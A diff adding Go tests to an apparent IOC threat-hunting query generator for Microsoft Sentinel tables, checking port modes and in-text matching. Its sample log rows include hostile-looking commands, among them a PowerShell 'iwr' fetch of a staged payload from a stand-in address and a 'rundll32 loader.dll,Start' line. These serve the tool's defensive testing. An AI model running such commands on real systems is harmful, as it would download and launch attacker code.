@@ -41,6 +41,9 @@ func TestBlocks(t *testing.T) {
 		one("Url", "http://192.0.2.5:8080/x", "192.0.2.0/24", "range"),
 		one("Url", "https://[2001:db8:5::1]/", "2001:db8:5::/48", "range"),
 	}
+	if tb := table(t, "OfficeActivity"); tb.Carries(iocs[0]) {
+		t.Error("OfficeActivity is said to carry a block, which its addresses in text are not compared with")
+	}
 	hits = append(hits, none("Remote", "", "192.0.3.5", "2001:db8:6::1", "x", "192.0.2.5.7", "2001:db8::5")...)
 	hits = append(hits, none("Url", "http://192.0.3.1/", "http://good.test/192.0.2.5", "http://192.0.2.5.good.test/")...)
 	hits = append(hits, none("Local", "192.0.2.5")...)
@@ -61,6 +64,9 @@ func TestMailAndFiles(t *testing.T) {
 		one("Path", "/opt/x/loader.dll", "loader.dll", "exact"),
 		one("Path", "loader.dll", "loader.dll", "exact"),
 		one("Message", `run "C:\x\loader.dll",Start`, "loader.dll", "in text"),
+		one("Message", "rundll32 loader.dll,Start", "loader.dll", "in text"),
+		one("Message", "cmd=loader.dll;x (loader.dll)", "loader.dll", "in text"),
+		one("Message", "saw loader.dll.", "loader.dll", "in text"),
 		one("Message", "mail from <bad@evil.example>, refused", iocs[0].Value, "in text"),
 		one("Recipient", "bad@evil.example", "", ""),
 	}
@@ -147,6 +153,17 @@ func TestMatchModes(t *testing.T) {
 
 func TestPortModes(t *testing.T) {
 	iocs := []feed.IOC{ioc(t, feed.IPPort, "192.0.2.10:443"), ioc(t, feed.IP, "198.51.100.7"), ioc(t, feed.IPPort, "[2001:db8::5]:8080"), ioc(t, feed.URL, "http://203.0.113.9/x")}
+	for text, want := range map[string][2]string{
+		"http://192.0.2.10:443/x": {"192.0.2.10:443", "port"}, "https://192.0.2.10/x": {"192.0.2.10:443", "port"}, "192.0.2.10:443": {"192.0.2.10:443", "port"},
+		"http://192.0.2.10/x": {"192.0.2.10:443", "address only"}, "https://[2001:DB8:0::5]:8080/": {"[2001:db8::5]:8080", "port"},
+		"http://192.0.2.10:44/x": {"192.0.2.10:443", "address only"},
+	} {
+		checkKinds(t, Options{}, iocs, []hit{one("Url", text, want[0], want[1])})
+		if want[1] != "port" {
+			want = [2]string{}
+		}
+		checkKinds(t, Options{Knobs: Knobs{Port: RequirePort}}, iocs, []hit{one("Url", text, want[0], want[1])})
+	}
 	rows := []struct {
 		remote string
 		port   int
@@ -154,8 +171,8 @@ func TestPortModes(t *testing.T) {
 	const five, url = "[2001:db8::5]:8080", "http://203.0.113.9/x"
 	for mode, want := range map[PortMode][][2]string{
 		LabelPort: {{"192.0.2.10:443", "port"}, {"192.0.2.10:443", "address only"}, {"198.51.100.7", "exact"}, {five, "port"}, {five, "address only"},
-			{url, "port"}, {url, "host of url"}},
-		RequirePort: {{"192.0.2.10:443", "port"}, {"", ""}, {"198.51.100.7", "exact"}, {five, "port"}, {"", ""}, {url, "port"}, {"", ""}},
+			{url, "host of url"}, {url, "host of url"}},
+		RequirePort: {{"192.0.2.10:443", "port"}, {"", ""}, {"198.51.100.7", "exact"}, {five, "port"}, {"", ""}, {url, "host of url"}, {"", ""}},
 		IgnorePort: {{"192.0.2.10:443", "address only"}, {"192.0.2.10:443", "address only"}, {"198.51.100.7", "exact"}, {five, "address only"}, {five, "address only"},
 			{url, "host of url"}, {url, "host of url"}},
 	} {
@@ -241,4 +258,46 @@ func TestColumnsOfIPv6(t *testing.T) {
 	checkHitsWith(t, tb, Options{}, []feed.IOC{ioc(t, feed.IP, "2001:db8::1"), ioc(t, feed.CIDR, "2001:db8:5::/48")}, []hit{
 		one("Remote", "2001:DB8::1", "2001:db8::1", "exact"), one("Remote", "2001:db8:5::9", "2001:db8:5::/48", "range"), one("Remote", "192.0.2.1", "", ""),
 	})
+}
+
+// TestNothingDependsOnTheOthers: whether an IOC is found in a row does not depend
+// on what else is hunted, so the parts of a split hunt find what the whole does.
+func TestNothingDependsOnTheOthers(t *testing.T) {
+	rows := []row{
+		{"CommandLine": "iwr http://203.0.113.9/stage/x.bin"}, {"CommandLine": "ping 192.0.2.10"}, {"CommandLine": "nslookup evil.example"},
+		{"CommandLine": "get https://cdn.example/y"}, {"EventData": "md5 " + evilMD5}, {"IpAddress": "203.0.113.9"},
+		{"AdditionalFields": `{"query":"evil.example"}`}, {"AdditionalFields": `{"server_name":"www.evil.example"}`}, {"RemoteUrl": "cdn.example"},
+	}
+	iocs := []feed.IOC{
+		ioc(t, feed.URL, "http://203.0.113.9/stage/x.bin"), ioc(t, feed.IPPort, "192.0.2.10:443"), ioc(t, feed.Domain, "evil.example"),
+		ioc(t, feed.URL, "https://cdn.example/y"), ioc(t, feed.MD5, evilMD5), ioc(t, feed.FileName, "x.bin"),
+	}
+	for _, name := range []string{"SecurityEvent", "WindowsEvent", "DeviceNetworkEvents", "DeviceEvents"} {
+		tb := table(t, name)
+		together, err := tb.Hunt(selection(iocs), Options{Target: Sentinel})
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, r := range rows {
+			alone := false
+			for _, i := range iocs {
+				h, err := tb.Hunt(selection([]feed.IOC{i}), Options{Target: Sentinel})
+				if err != nil {
+					t.Fatal(err)
+				}
+				alone = alone || evaluate(t, h.Query, r) != nil
+			}
+			if with := evaluate(t, together.Query, r) != nil; with != alone {
+				t.Errorf("%s: %v is found alone: %v, and together: %v", name, r, alone, with)
+			}
+		}
+	}
+	for name, found := range map[string]row{
+		"SecurityEvent": rows[0], "DeviceNetworkEvents": rows[6], "DeviceEvents": rows[7],
+	} {
+		h, err := table(t, name).Hunt(selection(iocs), Options{Target: Sentinel})
+		if err != nil || evaluate(t, h.Query, found) == nil {
+			t.Errorf("%s does not find %v, %v", name, found, err)
+		}
+	}
 }
